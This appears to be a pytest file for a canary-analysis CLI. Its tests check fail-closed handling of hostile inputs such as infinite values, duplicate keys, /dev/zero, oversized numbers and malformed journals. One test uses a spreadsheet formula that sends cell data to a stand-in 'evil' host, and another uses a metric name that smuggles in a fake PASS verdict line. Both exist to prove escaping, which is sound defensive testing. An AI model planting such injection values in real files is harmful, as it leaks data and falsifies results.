"""Issue 13: hostile files and configs. Each test reproduces one defect of the adversarial review first (a pass
that should not be, exit 4 for bad input, a hang, a faked output line) and checks the fail-closed behaviour.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import threading
from pathlib import Path

import numpy as np
import pytest
import yaml

from analysis import load_config, parse_config
from analysis.errors import ConfigError, DataError
from analysis.runs.record import write_recording
from analysis.collectors.file import FileCollector
from analysis.series import SamplePair, Series

ROOT = Path(__file__).resolve().parents[3]
DEMO = ROOT / "fixtures" / "demo"
ONE = {"name": "latency", "judge": "kayenta", "direction": "increase"}


def cli(*args: str, stdin: str | None = None, cwd: Path | None = None, timeout: float = 60):
    return subprocess.run([sys.executable, "-m", "analysis.cli", *map(str, args)], capture_output=True, text=True,
                          input=stdin, timeout=timeout, cwd=cwd)


def one_line_error(r: subprocess.CompletedProcess, code: int = 2) -> str:
    assert r.returncode == code, r.stdout + r.stderr
    assert "Traceback" not in r.stderr and len(r.stderr.strip().splitlines()) == 1, r.stderr
    return r.stderr


def csv(tmp_path: Path, rows: list[tuple], name: str = "d.csv") -> Path:
    path = tmp_path / name
    path.write_text("metric,scope,timestamp,value\n" + "".join(",".join(map(str, r)) + "\n" for r in rows))
    return path


def pair_rows(baseline: np.ndarray, canary: np.ndarray, t0: int = 1_700_000_000, name: str = "latency"):
    rows = [(name, "baseline", t0 + 10 * i, repr(float(v))) for i, v in enumerate(baseline)]
    return rows + [(name, "canary", t0 + 10 * i, repr(float(v))) for i, v in enumerate(canary)]


def config_file(tmp_path: Path, cfg: dict, name: str = "c.yaml") -> Path:
    path = tmp_path / name
    path.write_text(yaml.safe_dump(cfg))
    return path


RNG = np.random.default_rng(13)
BASE = 100 + RNG.normal(0, 1, 60)


# -- defect 1: non-finite values --------------------------------------------------------------------------------

@pytest.mark.parametrize("bad", ["+Inf", "inf", "9" * 400])
def test_an_infinite_canary_value_never_passes(tmp_path, bad):
    canary = [repr(float(v)) for v in BASE]
    canary[7] = bad
    rows = pair_rows(BASE, BASE) [:60] + [("latency", "canary", 1_700_000_000 + 10 * i, v)
                                          for i, v in enumerate(canary)]
    cfg = config_file(tmp_path, {"metrics": [ONE]})
    r = cli("analyze", cfg, "--data", csv(tmp_path, rows), "--json", "-")
    d = json.loads(r.stdout)
    assert r.returncode == 4 and d["verdict"] == "error" and d["score"] == 0.0
    assert "canary has 1 infinite value(s)" in d["metrics"][0]["reason"]
    cfg = config_file(tmp_path, {"metrics": [{**ONE, "nonfinite": "fail"}]})
    r = cli("analyze", cfg, "--data", csv(tmp_path, rows), "--json", "-")
    assert r.returncode == 1 and json.loads(r.stdout)["metrics"][0]["classification"] == "high"


# -- defect 2: duplicate rows -----------------------------------------------------------------------------------

def test_duplicate_rows_are_a_data_error_naming_file_series_and_timestamp(tmp_path):
    rows = pair_rows(BASE, BASE + 5)
    rows.append(rows[70])  # a canary row again
    err = one_line_error(cli("analyze", config_file(tmp_path, {"metrics": [ONE]}), "--data", csv(tmp_path, rows)))
    assert "d.csv: lines 72, 122: duplicate rows for metric 'latency' scope canary at timestamp" in err
    assert "(1700000100.0)" in err


# -- defect 3: duplicate keys -----------------------------------------------------------------------------------

@pytest.mark.parametrize("name, text, message", [
    ("c.yaml", "metrics:\n  - {name: errors, judge: kayenta, critical: true}\nname: x\n"
               "metrics:\n  - {name: latency, judge: kayenta}\n",
     "c.yaml: line 4, column 1: invalid YAML: duplicate key 'metrics' (first on line 1)"),
    ("c.json", '{"metrics": [{"name": "errors", "critical": true}],\n "name": "x",\n'
               ' "metrics": [{"name": "latency"}]}\n', "c.json: line 3: duplicate key 'metrics'"),
])
def test_duplicate_keys_are_refused_naming_key_and_line(tmp_path, name, text, message):
    """Defect 3: a second metrics: key silently dropped a critical metric (the last one won)."""
    path = tmp_path / name
    path.write_text(text)
    assert message in one_line_error(cli("validate", path))


def test_yaml_merge_keys_still_work(tmp_path):
    path = tmp_path / "c.yaml"
    path.write_text("metrics:\n  - &m {name: a, judge: kayenta, direction: increase}\n  - {<<: *m, name: b}\n")
    assert [m.name for m in load_config(path).metrics] == ["a", "b"]


# -- defect 4: the same series on both sides --------------------------------------------------------------------

def test_equal_scopes_are_refused_at_validation():
    with pytest.raises(ConfigError, match="scopes.canary: baseline and canary select the same series"):
        parse_config({"metrics": [ONE], "scopes": {"baseline": {"version": "v1"}, "canary": {"version": "v1"}}})


def test_identical_series_at_run_time_are_not_a_pass(tmp_path):
    r = cli("analyze", config_file(tmp_path, {"metrics": [ONE]}), "--data", csv(tmp_path, pair_rows(BASE, BASE)),
            "--json", "-")
    d = json.loads(r.stdout)
    assert r.returncode == 4 and d["verdict"] == "error" and "identical for every metric" in d["reason"]


# -- defect 5: rollout without analysis -------------------------------------------------------------------------

def test_a_rollout_straight_to_100_is_refused():
    with pytest.raises(ConfigError, match="rollout.steps: needs at least one step below 100"):
        parse_config({"metrics": [ONE], "rollout": {"steps": [100], "interval": "10s",
                                                    "router": {"type": "dry-run"}}})


# -- defect 8 and 14: secret files ------------------------------------------------------------------------------

@pytest.mark.parametrize("content, message", [
    (b"\x00\xff\xfe binary", "is not text"),
    (b"tok\nen\n", "one token on one line"),
    (b"\n\n", "one token on one line"),
])
def test_bad_token_files_are_config_errors_without_their_content(tmp_path, content, message):
    token = tmp_path / "token"
    token.write_bytes(content)
    cfg = config_file(tmp_path, {"metrics": [{**ONE, "query": "m{${scope}}"}],
                                 "scopes": {"baseline": {"v": "1"}, "canary": {"v": "2"}},
                                 "prometheus": {"url": "http://127.0.0.1:9", "bearer_token_file": str(token)}})
    err = one_line_error(cli("analyze", cfg, "--start", "2024-01-01T00:00:00Z", "--end", "2024-01-01T01:00:00Z"))
    assert "prometheus.bearer_token_file" in err and message in err and "tok" not in err.replace("token", "")


def test_a_token_file_with_a_trailing_newline_is_stripped(tmp_path):
    from analysis.errors import read_secret

    (tmp_path / "t").write_text("abc-123\n")
    assert read_secret(tmp_path / "t", "x") == "abc-123"


# -- defect 10: files that never end ----------------------------------------------------------------------------

def test_dev_zero_and_a_fifo_neither_hang_nor_exhaust_memory(tmp_path):
    cfg = config_file(tmp_path, {"metrics": [ONE]})
    assert "a device, not a file" in one_line_error(cli("analyze", cfg, "--data", "/dev/zero", timeout=20))
    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)
    assert "the file is empty" in one_line_error(cli("analyze", cfg, "--data", fifo, timeout=20))
    assert "a device, not a file" in one_line_error(cli("validate", "/dev/zero", timeout=20))
    token_cfg = config_file(tmp_path, {"metrics": [{**ONE, "query": "m{${scope}}"}],
                                       "scopes": {"baseline": {"v": "1"}, "canary": {"v": "2"}},
                                       "prometheus": {"url": "http://127.0.0.1:9", "bearer_token_file": "/dev/zero"}},
                            "t.yaml")
    err = one_line_error(cli("analyze", token_cfg, "--start", "now-1h", timeout=20))
    assert "bearer_token_file: cannot read /dev/zero" in err


def test_a_pipe_larger_than_the_limit_is_refused(monkeypatch, tmp_path):
    from analysis import errors

    monkeypatch.setattr(errors, "PIPE_LIMIT", 1000)
    r, w = os.pipe()
    threading.Thread(target=lambda: (os.write(w, b"x" * 5000), os.close(w)), daemon=True).start()
    with pytest.raises(DataError, match="too large"):
        errors.read_bytes(f"/proc/self/fd/{r}", DataError)
    os.close(r)


def test_stdin_given_twice_is_refused(tmp_path):
    data = csv(tmp_path, pair_rows(BASE, BASE + 5)).read_text()
    cfg = yaml.safe_dump({"metrics": [ONE]})
    err = one_line_error(cli("analyze", "/dev/stdin", "--data", "/dev/stdin", stdin=cfg))
    assert "/dev/stdin: already read as /dev/stdin" in err
    r = cli("analyze", config_file(tmp_path, {"metrics": [ONE]}), "--data", "/dev/stdin", stdin=data)
    assert r.returncode == 1 and "verdict: FAIL" in r.stdout


# -- defect 14: bad input is exit 2, never exit 4 ---------------------------------------------------------------

def test_epoch_milliseconds_are_a_data_error(tmp_path):
    rows = [(m, s, t * 1000, v) for m, s, t, v in pair_rows(BASE, BASE)]
    err = one_line_error(cli("analyze", config_file(tmp_path, {"metrics": [ONE]}), "--data", csv(tmp_path, rows)))
    assert "d.csv: line 2: timestamp '1700000000000' is out of range; looks like epoch milliseconds" in err


def test_a_window_of_1e20_is_a_data_error(tmp_path):
    path = csv(tmp_path, pair_rows(BASE, BASE + 5))
    path.write_text('# canary: {"window": {"start": 1e20, "end": 2e20}}\n' + path.read_text())
    err = one_line_error(cli("analyze", config_file(tmp_path, {"metrics": [ONE]}), "--data", path))
    assert "d.csv: metadata window.start: '1e+20' is out of range" in err


@pytest.mark.parametrize("key, value, message", [
    ("tolerance", int("9" * 400), "tolerance: expected a finite number, got an integer of 400 digits"),
    ("confidence", int("9" * 400), "metrics[latency].confidence: expected a finite number"),
])
def test_400_digit_integers_are_config_errors(tmp_path, key, value, message):
    path = tmp_path / "c.yaml"
    path.write_text(f"metrics:\n  - name: latency\n    judge: kayenta\n    {key}: {value}\n")
    assert message in one_line_error(cli("validate", path))


def test_huge_durations_are_config_errors(tmp_path):
    cfg = config_file(tmp_path, {"metrics": [ONE], "rollout": {"steps": [10], "interval": int("9" * 400),
                                                               "router": {"type": "dry-run"}}})
    assert "rollout.interval" in one_line_error(cli("validate", cfg))
    cfg = config_file(tmp_path, {"metrics": [ONE], "prometheus": {"timeout": "1e20s"}})
    assert "prometheus.timeout" in one_line_error(cli("validate", cfg))


@pytest.mark.parametrize("record, field", [
    ({"event": "verdict", "t": "yesterday", "stage": "step-1", "verdict": "pass"}, "field t"),
    ({"event": "weights_applied", "t": 1.0, "stage": "step-1", "weights": {"baseline": "90", "canary": 10}},
     "field weights"),
    ({"event": "stage_done", "t": 1.0, "stage": ["step-1"]}, "field stage"),
])
def test_a_journal_with_wrong_field_types_is_a_data_error_with_a_recovery_path(tmp_path, record, field):
    start = {"seq": 1, "t": 1.0, "run": "r1", "event": "start", "service": "svc", "strategy": "canary",
             "plan": [{"name": "step-1", "kind": "step", "baseline": 90, "canary": 10, "analyze": True}]}
    state = tmp_path / "s.jsonl"
    state.write_text(json.dumps(start) + "\n" + json.dumps({"seq": 2, "run": "r1", **record}) + "\n")
    err = one_line_error(cli("status", "--state", state))
    assert f"s.jsonl: line 2: {field}: expected" in err
    assert f"head -n 1 {state} > {state}.repaired" in err and "--resume" in err
    cfg = config_file(tmp_path, {"name": "svc", "metrics": [{**ONE, "query": "m{${scope}}"}],
                                 "scopes": {"baseline": {"v": "1"}, "canary": {"v": "2"}},
                                 "rollout": {"steps": [10], "interval": "1s", "router": {"type": "dry-run"}}})
    err = one_line_error(cli("rollout", cfg, "--resume", "--state", state, "--prometheus-url", "http://127.0.0.1:9"))
    assert f"line 2: {field}" in err


# -- defect 15: output that cannot lie ---------------------------------------------------------------------------

def test_a_metric_name_with_a_newline_cannot_fake_a_verdict_line(tmp_path):
    name = "latency\nverdict: PASS  score 100/100"
    rows = pair_rows(BASE, BASE + 10, name=name.replace("\n", "\\n"))
    path = tmp_path / "d.csv"
    path.write_text("metric,scope,timestamp,value\n" + "".join(
        f'"{name}",{s},{t},{v}\n' for _, s, t, v in rows))
    cfg = config_file(tmp_path, {"metrics": [{**ONE, "name": name, "critical": True}]})
    r = cli("analyze", cfg, "--data", path)
    assert r.returncode == 1
    verdicts = [line for line in r.stdout.splitlines() if line.startswith("verdict:")]
    assert verdicts == [line for line in verdicts if "FAIL" in line] and len(verdicts) == 1
    assert "latency\\nverdict: PASS" in r.stdout


def test_control_characters_are_escaped_on_a_terminal_too(tmp_path):
    import pty

    name = "lat\x07ency\x1b[32m"
    rows = pair_rows(BASE, BASE + 10, name="x")
    path = tmp_path / "d.csv"
    path.write_text("metric,scope,timestamp,value\n" + "".join(f"{name},{s},{t},{v}\n" for _, s, t, v in rows))
    cfg = config_file(tmp_path, {"metrics": [{**ONE, "name": name}]})
    leader, follower = pty.openpty()
    try:
        proc = subprocess.run([sys.executable, "-m", "analysis.cli", "analyze", str(cfg), "--data", str(path)],
                              stdout=follower, stderr=subprocess.PIPE, timeout=60)
        os.close(follower)
        out = b""
        while True:
            try:
                chunk = os.read(leader, 65536)
            except OSError:
                break
            if not chunk:
                break
            out += chunk
    finally:
        os.close(leader)
    assert proc.returncode == 1
    assert b"\x07" not in out and b"\x1b[32m" not in out and b"lat\\x07ency\\x1b[32m" in out


def test_record_output_is_safe_from_formula_injection_and_reads_back(tmp_path):
    name = '=HYPERLINK("http://evil/?x="&A1,"click")'
    ts = np.arange(5) * 10.0 + 1_700_000_000
    pairs = {name: SamplePair(name, Series(ts, np.arange(5.0)), Series(ts, np.arange(5.0) + 1))}
    out = tmp_path / "rec.csv"
    write_recording(out, pairs, {"window": {"start": "2023-11-14T22:13:20Z", "end": "2023-11-14T22:14:00Z"}})
    cells = [line.split(",")[0] for line in out.read_text().splitlines()[2:]]
    assert all(c.startswith("\"'=") or c.startswith("'=") for c in cells)
    assert FileCollector(out).metric_names() == [name]
